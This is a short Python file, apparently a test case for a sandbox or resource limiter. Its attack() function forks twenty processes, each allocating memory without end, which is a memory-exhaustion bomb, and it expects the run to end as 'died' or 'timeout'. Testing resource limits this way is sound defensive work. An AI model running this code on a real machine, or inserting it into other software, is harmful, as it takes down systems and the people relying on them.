"""Memory bomb by twenty processes at once"""

import os

from tools import wait

ENDS = ("died", "timeout")


def attack():
    for _ in range(20):
        if os.fork() == 0:
            hoard = []
            while True:
                hoard.append(bytearray(1 << 16))
    wait()
